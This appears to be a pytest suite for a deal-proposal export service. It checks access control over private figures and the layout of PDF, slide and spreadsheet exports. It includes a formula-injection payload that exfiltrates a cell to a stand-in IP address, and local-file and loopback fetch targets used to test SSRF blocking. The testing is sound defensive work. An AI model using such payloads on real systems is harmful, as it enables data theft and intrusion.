"""Documents to hand over: whole and right in every form, and never a byte more than their reader may see."""

from __future__ import annotations

import re
import threading
from io import BytesIO

import pytest
from openpyxl import load_workbook
from pptx import Presentation
from pptx.enum.text import PP_ALIGN
from pptx.util import Inches
from pypdf import PdfReader
from weasyprint.urls import FatalURLFetchingError
from world import World

from kyokan.errors import UnavailableError
from kyokan.web.exports import PROPOSAL_FORMS, RANKING_FORMS
from kyokan.web.exports.deck import Deck
from kyokan.web.exports.printing import pdf
from kyokan.web.exports.sheets import _height, inert
from tests.web.browsing import company
from tests.web.papers import (
    cells_of,
    data_of,
    fonts_of,
    of_archive,
    of_text,
    printed_pages,
    sheets_of,
    slides_of,
    text_of,
)

FORM = "/deals/new/artist:akari/brand:koyomido"
RANKING = "/matches/export?entity=brand:koyomido&for=artist"
FLOOR, CEILING, NOTE = "7654321", "9876543", "CANARY-NOTE"
FORMULA = '=HYPERLINK("http://192.0.2.1/?"&A1,"see")'
SAID, DRAWN = "CHOSEN-SENTENCE", "DAWN-SKETCH"
# Who takes out which version -> what must not stand in it, and what must
HOLDS = {
    ("planner", "internal"): ((), (FLOOR, CEILING, NOTE, SAID, DRAWN)),
    ("analyst", "internal"): ((), (FLOOR, CEILING, NOTE, SAID, DRAWN)),
    ("planner", "external"): ((FLOOR, CEILING, NOTE, "CANARY-FIRST", "Hana", "Toru"), (SAID, DRAWN)),
    ("brand", "internal"): ((FLOOR, NOTE), (CEILING, SAID, DRAWN)),
    ("manager", "internal"): ((CEILING, NOTE), (FLOOR, SAID, DRAWN)),
}


class Room:
    """Two proposals of two agencies, each with everybody's private figures."""

    def __init__(self, folder) -> None:
        self.world = World(folder)
        self.browsers = company(self.world)
        planner = self.browsers["planner"]
        terms = {"category": "腕時計", "territories": "日本, 韓国", "fee_low": "18,000,000", "until": "2028-03-31"}
        draft = {"artist": "artist:akari", "brand": "brand:koyomido", "headline": FORMULA, "key": "a" * 32}
        sides = {"brand_side": "Koyomido†", "artist_side": "Nagi Office†"}
        first = terms | {"note": "CANARY-FIRST"}
        self.address = planner.send("/deals", FORM, **draft, **sides, **first).location
        words = {
            "sentences": [{"en": SAID}],
            "sketches": [{"kind": "visual", "title": DRAWN, "text": "A quay at dawn"}],
        }
        actor = self.world.accounts.sessions.actor_of(planner.cookie)
        deal = self.world.deals.get(actor, self.address.rpartition("/")[2])
        self.world.manuscripts.keep(actor, deal["id"], deal["version"], words)
        self.act("planner", "change", internal_note=NOTE)
        self.act("planner", "send")
        self.act("manager", "change", fee_floor=FLOOR)
        self.act("brand", "change", budget_ceiling=CEILING)
        self.act("brand", "counter", **terms)
        others = {"headline": "CANARY-OTHER", "rationale": "CANARY-OTHER", "key": "c" * 32}
        self.others = self.browsers["stranger"].send("/deals", FORM, **draft | others, **first).location

    def act(self, who, step, **said: str):
        version = re.search(r'name="version" value="(\d+)"', self.browsers[who].get(self.address).text)[1]
        answer = self.browsers[who].send(f"{self.address}/{step}", self.address, version=version, **said)
        assert answer.status_code == 303, answer.text

    def take(self, who, form, audience="internal", lang="en", address=None):
        browser = self.browsers[who]
        token = browser.token("/account")
        where = f"{address or self.address}/export?lang={lang}"
        return browser.send(where, csrf_token=token, form=form, audience=audience)

    def rank(self, form, who="planner", lang="en"):
        return self.browsers[who].send(
            f"{RANKING}&lang={lang}", csrf_token=self.browsers[who].token("/account"), form=form
        )


@pytest.fixture(scope="module")
def room(tmp_path_factory):
    made = Room(tmp_path_factory.mktemp("exports"))
    yield made
    made.world.close()


@pytest.mark.parametrize("form", PROPOSAL_FORMS)
@pytest.mark.parametrize(("who", "audience"), HOLDS)
def test_no_document_holds_a_byte_that_its_reader_may_not_see(room, who, audience, form):
    hidden, own = HOLDS[who, audience]
    answer = room.take(who, form, audience)
    assert answer.status_code == 200
    said = text_of(form, answer.data) + answer.headers["Content-Disposition"]
    plain = re.sub(r"(?<=\d),(?=\d)", "", said)
    assert [canary for canary in (*hidden, "CANARY-OTHER", "Other Agency") if canary in plain] == []
    assert [figure for figure in own if figure not in plain] == []


@pytest.mark.parametrize("form", RANKING_FORMS)
def test_no_ranking_holds_anything_of_a_deal(room, form):
    said = text_of(form, room.rank(form).data)
    assert "CANARY" not in said
    assert "Akari" in said


@pytest.mark.parametrize("form", PROPOSAL_FORMS)
@pytest.mark.parametrize("who", ["stranger", "planner"])
def test_a_deal_of_others_and_no_deal_are_answered_alike(room, who, form):
    absent = room.take(who, form, address=f"/deals/{'0' * 32}")
    assert absent.status_code == 404
    if who == "stranger":
        assert room.take(who, form).status_code == 404


def test_a_side_gets_no_version_but_its_own(room):
    for who in ("brand", "manager"):
        assert room.take(who, "json", "external").status_code == 403


def test_the_name_of_a_file_says_for_whom_it_is(room):
    names = {
        (audience, lang): room.take("planner", "json", audience, lang).headers["Content-Disposition"]
        for audience in ("internal", "external")
        for lang in ("ja", "en")
    }
    assert "Internal" in names["internal", "en"]
    assert "External" in names["external", "en"]
    assert "%E7%A4%BE%E5%86%85" in names["internal", "ja"]  # 社内
    assert "%E7%A4%BE%E5%A4%96" in names["external", "ja"]  # 社外


def test_each_document_is_recorded_for_the_side_that_took_it(room):
    deals, before = room.world.deals, {}
    actors = {who: room.world.accounts.sessions.actor_of(room.browsers[who].cookie) for who in ("planner", "brand")}
    deal = room.address.rpartition("/")[2]
    for who, actor in actors.items():
        before[who] = len(deals.history(actor, deal))
    room.take("planner", "json", "external")
    assert len(deals.history(actors["planner"], deal)) == before["planner"] + 1
    assert len(deals.history(actors["brand"], deal)) == before["brand"]
    last = deals.history(actors["planner"], deal)[-1]
    assert (last["act"], last["form"], last["audience"]) == ("export", "json", "external")


@pytest.mark.parametrize(("name", "value"), [("form", "exe"), ("audience", "everyone"), ("field", "x")])
def test_what_is_not_offered_is_refused(room, name, value):
    planner = room.browsers["planner"]
    given = {"form": "json", "audience": "internal", name: value}
    assert planner.send(f"{room.address}/export", room.address, **given).status_code == 400


def test_the_faces_of_a_pdf_are_embedded_and_its_japanese_can_be_read(room):
    made = room.take("planner", "pdf", lang="ja").data
    faces = fonts_of(made)
    assert all(faces.values())
    assert {"Zen-Kaku-Gothic-New", "Zen-Old-Mincho"} <= {
        re.sub(r"^.*\+|-(Semi-)?Bold$", "", name[1:]) for name in faces
    }
    said = text_of("pdf", made)
    assert "凪原" in said
    assert "腕時計" in said


@pytest.mark.parametrize("form", PROPOSAL_FORMS)
def test_what_is_pasted_unseen_stops_no_document_and_stands_in_none(room, form):
    pasted = "Two\x0bhands\x00 are\ufffe \u202eenough\x85"  # a soft line end of slides, controls, a turn of direction
    rest = {
        "category": "腕時計",
        "note": pasted,
        "key": "e" * 32,
        "brand_side": "Koyomido†",
        "artist_side": "Nagi Office†",
    }
    draft = {"artist": "artist:akari", "brand": "brand:koyomido", "headline": pasted}
    address = room.browsers["planner"].send("/deals", FORM, **draft, **rest).location
    made = room.take("planner", form, address=address)
    assert made.status_code == 200
    assert "Two hands are enough" in " ".join(text_of(form, made.data).split())


def test_a_japanese_headline_breaks_between_phrases_and_a_long_name_where_it_must(room):
    rest = {"category": "腕時計", "brand_side": "Koyomido†", "artist_side": "Nagi Office†", "key": "d" * 32}
    long = "スーパーロングネームエンターテインメントホールディングス"
    headline = f"暦堂の静かな新しい腕時計に響くアーティストを{long}から"
    draft = {"artist": "artist:akari", "brand": "brand:koyomido", "headline": headline}
    address = room.browsers["planner"].send("/deals", FORM, **draft, **rest).location
    lines = text_of("pdf", room.take("planner", "pdf", lang="ja", address=address).data).splitlines()
    first = next(place for place, line in enumerate(lines) if line.startswith("暦堂の静かな"))
    assert lines[first] == "暦堂の静かな新しい腕時計に響く"
    assert lines[first + 1].startswith("アーティストをスーパーロング")
    assert "".join(lines[first : first + 5]).startswith(headline)


@pytest.mark.parametrize("lang", ["ja", "en"])
@pytest.mark.parametrize("taken", ["proposal", "ranking"])
def test_a_printed_sheet_can_be_read(room, taken, lang):
    made = room.take("planner", "xlsx", lang=lang) if taken == "proposal" else room.rank("xlsx", lang=lang)
    pages = printed_pages(made.data)
    assert [wide for wide, there_is, _ in pages if wide > there_is + 0.001] == []
    assert min(size for _, _, size in pages) >= 7.5  # points; all in one row would leave four


def test_a_ranking_prints_on_two_pages_across_that_both_name_the_candidates(room):
    sheet = load_workbook(BytesIO(room.rank("xlsx").data)).worksheets[0]
    assert sheet.print_title_cols == "$A:$C"
    assert sheet.print_title_rows == "$1:$1"
    assert sheet.page_setup.pageOrder == "overThenDown"
    header = [cell.value for cell in sheet[1]]
    (after,) = (one.id for one in sheet.col_breaks.brk)
    assert header[after - 1 : after + 1] == ["Reason", "Resonance"]
    assert sheet.print_area.endswith(f"$U${sheet.max_row}")


def test_every_page_says_that_the_data_is_a_sample(room):
    pages = text_of("pdf", room.take("planner", "pdf").data)
    assert pages.count("Demo data. Names marked †") == len(re.findall(r"\d+ / \d+", pages)) > 1
    for slide in slides_of(room.take("planner", "pptx").data):
        assert "Demo data" in {shape.text_frame.text for shape in slide.shapes if shape.has_text_frame}
    assert all("Demo data" in name for name in sheets_of(room.take("planner", "xlsx").data))


def test_the_printed_figures_add_up(room):
    said = text_of("pdf", room.take("planner", "pdf").data)
    table = said[said.index("How the score adds up") : said.index("→")]
    rows = re.findall(r"([+−±]\d\.\d\d)", table)
    total = re.search(r"Sum\s+(−?\d\.\d\d)", table)[1]
    numbers = [float(one.replace("−", "-").replace("±", "")) for one in rows]
    assert sum(numbers) == pytest.approx(float(total.replace("−", "-")), abs=0.001)


def test_the_sheet_adds_up_to_the_score_unrounded(room):
    rows = next(iter(sheets_of(room.take("planner", "xlsx").data).values()))
    score = next(row[3] for row in rows if row[1] == "Fit")
    parts = [row[3] for row in rows if row[0] == "Why it resonates" and isinstance(row[3], float)]
    *added, total = parts
    assert sum(added) == pytest.approx(total)
    assert 1 / (1 + 2.718281828459045**-total) == pytest.approx(score)


def test_each_signal_of_the_sheet_is_the_sum_of_its_evidence(room):
    rows = next(iter(sheets_of(room.take("planner", "xlsx").data).values()))
    for name in {row[1] for row in rows if row[0] == "Evidence"}:
        evidence = sum(row[3] for row in rows if row[0] == "Evidence" and row[1] == name)
        signal = sum(row[3] for row in rows if row[0] == "Why it resonates" and row[1] == name)
        assert evidence == pytest.approx(signal, abs=1e-5), name


def test_numbers_are_numbers_and_a_formula_stays_a_text(room):
    cells = cells_of(room.take("planner", "xlsx").data)
    assert {cell.data_type for cell in cells} <= {"s", "n"}
    assert 18_000_000 in {cell.value for cell in cells}
    assert any(cell.value == FORMULA and cell.data_type == "s" for cell in cells)
    ranked = cells_of(room.rank("xlsx").data)
    assert {cell.data_type for cell in ranked} <= {"s", "n"}
    assert 1 in {cell.value for cell in ranked}


def test_a_text_that_begins_like_a_formula_is_made_inert_in_csv(room):
    assert [inert(cell) for cell in ("=1+1", "+1", "-1", "@x", "plain", -0.5, None)] == [
        *("'=1+1", "'+1", "'-1", "'@x", "plain", -0.5, None)
    ]
    header = of_text(room.rank("csv").data).splitlines()[0]
    assert header.startswith("Rank,Name (Japanese),Name (English)")


def test_slides_hold_native_tables_and_bars_and_one_picture_in_words(room):
    slides = slides_of(room.take("planner", "pptx", lang="ja").data)
    shapes = [shape for slide in slides for shape in slide.shapes]
    assert sum(shape.has_chart for shape in shapes if hasattr(shape, "has_chart")) == 1
    assert sum(shape.has_table for shape in shapes if hasattr(shape, "has_table")) >= 3
    pictures = [shape for shape in shapes if shape.shape_type == 13]
    described = [shape._element.nvPicPr.cNvPr.get("descr") for shape in pictures]
    assert len(described) == 1
    assert described[0].startswith("凪原 灯 と 暦堂 の重ね。")
    titles = [slide.shapes.title.text_frame.text for slide in slides]
    assert titles[1:] == [DRAWN, "点の内訳", "根拠", "条件", "自分たちだけの控え", "日程"]  # no fans to show, no slide
    spoken = [slide.notes_slide.notes_text_frame.text for slide in slides if slide.has_notes_slide]
    assert spoken[0] == described[0]
    assert "示せるファンの数はありません" in spoken[1]
    assert "出典" in spoken[1]


def test_where_nothing_private_is_stated_no_slide_is_kept_for_it(room):
    titles = [
        slide.shapes.title.text_frame.text
        for slide in slides_of(room.take("stranger", "pptx", address=room.others).data)
    ]
    assert titles[-2:] == ["Terms", "Schedule"]


@pytest.mark.parametrize(("form", "inks"), [("pdf", True), ("print", False)])
def test_a_paper_in_one_ink_is_drawn_without_the_inks_of_the_sides(room, form, inks):
    taken = room.take("planner", form, lang="en")
    drawn = b"".join(page.get_contents().get_data() for page in PdfReader(BytesIO(taken.data)).pages)
    found = [re.search(colour, drawn) is not None for colour in (rb"0\.749\d* 0\.235\d*", rb"0\.05\d* 0\.41\d*")]
    assert found == [inks, inks]
    assert ("one%20ink" in taken.headers["Content-Disposition"]) is not inks


def test_every_run_of_the_slides_is_set_for_latin_and_japanese(room):
    faces = set()
    for slide in slides_of(room.take("planner", "pptx", lang="ja").data):
        for run in slide._element.iter("{http://schemas.openxmlformats.org/drawingml/2006/main}rPr"):
            set_for = {child.tag.rpartition("}")[2]: child.get("typeface") for child in run}
            faces.add((set_for.get("latin"), set_for.get("ea")))
    assert faces == {("游明朝", "游明朝"), ("游ゴシック", "游ゴシック")}


def test_what_people_add_to_the_slides_has_their_faces_and_colours(room):
    theme = of_archive(room.take("planner", "pptx").data)
    assert set(re.findall(r'<a:(?:latin|ea) typeface="(游[^"]*)"', theme)) == {"游明朝", "游ゴシック"}
    accents = re.findall(r'<a:accent\d>\s*<a:srgbClr val="(\w+)"', theme)
    assert accents[:2] == ["BF3C1B", "0F6A86"]
    assert "Yu Gothic" not in theme


def test_data_is_the_rendering_of_ones_side(room):
    planner, brand, outside = (
        data_of(room.take(who, "json", audience).data)
        for who, audience in (("planner", "internal"), ("brand", "internal"), ("planner", "external"))
    )
    assert planner["proposal"]["fee_floor"] == int(FLOOR)
    assert "fee_floor" not in brand["proposal"]
    assert outside["proposal"].keys() == set(outside["proposal"]) - {
        "score",
        "score_artist",
        "score_brand",
        "confidence",
    }
    assert [set(terms) & {"name", "accepted_by"} for terms in outside["proposal"]["terms"]] == [set()]
    assert {part["for"] for part in outside["proposal"]["contributions"]} <= {"both"}
    assert "possible" not in planner["proposal"]


@pytest.mark.parametrize("form", RANKING_FORMS)
def test_nobody_takes_a_ranking_without_signing_in(room, form):
    answer = (
        room.rank(form, who="nobody")
        if room.browsers["nobody"].inside
        else room.browsers["nobody"].send(RANKING, "/sign-in", form=form)
    )
    assert answer.status_code == 303


def test_a_ranking_keeps_its_order_and_those_set_aside_with_their_reason(room):
    rows = next(iter(sheets_of(room.rank("xlsx").data).values()))
    ranks = [row[0] for row in rows[1:] if isinstance(row[0], int)]
    assert ranks == sorted(ranks)
    blocked = [row for row in rows if row[9] and "Blocked" in row[9]]
    assert all(row[11] for row in blocked)
    assert len(data_of(room.rank("json").data)["answer"]["matches"]) == len(ranks)


def test_a_document_names_nobody_who_did_not_write_it(room):
    deck = Presentation(BytesIO(room.take("planner", "pptx").data)).core_properties
    assert {deck.author, deck.last_modified_by} == {"Kyokan"}


def test_whoever_comes_while_others_wait_is_told_so(monkeypatch):
    monkeypatch.setattr("kyokan.web.exports.printing._places", threading.Semaphore(0))
    with pytest.raises(UnavailableError):
        pdf("<p>x</p>")


def test_a_document_that_asks_for_anything_else_gets_nothing():

    for address in (
        "http://127.0.0.1:9/x.png",
        "https://192.0.2.1/",
        "file:///etc/hostname",
        "data:image/png;base64,AA",
    ):
        with pytest.raises(FatalURLFetchingError):
            pdf(f'<html lang="en"><head><title>x</title></head><img src="{address}" alt="x"></html>')


def test_dates_close_to_each_other_do_not_run_into_each_other_on_the_slide():
    out, deck = BytesIO(), Deck("en", "", "")
    deck.slide("Dates")
    deck.timeline([(0.0, "Nov 30", "Sent"), (0.01, "Dec 1", "From"), (0.06, "Dec 20", "By")], None, (1.0, 4.0), 11.0)
    deck.save(out)
    shapes = slides_of(out.getvalue())[0].shapes
    boxes = {box.text_frame.text: box for box in shapes if box.has_text_frame and "\n" in box.text_frame.text}
    tops = {words.partition("\n")[2]: round(box.top.inches, 1) for words, box in boxes.items()}
    assert tops == {"Sent": 3.0, "From": 4.2, "By": 2.2}


def test_the_words_of_the_last_date_end_where_its_mark_stands():
    out, deck = BytesIO(), Deck("en", "", "")
    deck.slide("Dates")
    deck.timeline([(0.0, "Nov 30", "From"), (1.0, "Dec 20", "To")], None, (1.0, 4.0), 11.0)
    deck.save(out)
    first, last = [
        box for box in slides_of(out.getvalue())[0].shapes if box.has_text_frame and "\n" in box.text_frame.text
    ]
    assert (first.left.inches, first.text_frame.paragraphs[0].alignment) == (pytest.approx(0.9), PP_ALIGN.LEFT)
    ends = (last.left + last.width) / Inches(1)
    assert (ends, last.text_frame.paragraphs[0].alignment) == (pytest.approx(12.1), PP_ALIGN.RIGHT)


@pytest.mark.parametrize(
    ("written", "lines"),
    [("あ" * 21, 1), ("あ" * 22, 2), ("a" * 85, 3), ("ab " * 14, 1), (f"{'a' * 40} bcd", 2), ("", 1)],
)
def test_a_row_is_as_high_as_its_text(written, lines):
    assert _height(written, 42) == lines


def test_figures_of_a_sheet_stand_under_their_heads_and_off_the_words_beside_them(room):
    planner = room.browsers["planner"]
    taken = planner.send(RANKING, "/matches?entity=brand:koyomido&for=artist", form="xlsx")
    sheet = load_workbook(BytesIO(taken.data)).worksheets[0]
    heads = [(cell.alignment.horizontal, cell.alignment.indent) for cell in sheet[1][:5]]
    assert heads == [("right", 1), (None, 0), (None, 0), (None, 0), ("right", 1)]
    assert [sheet[2][column].number_format for column in (0, 4)] == ["#,##0_0", '0.00_0;"−"0.00_0']
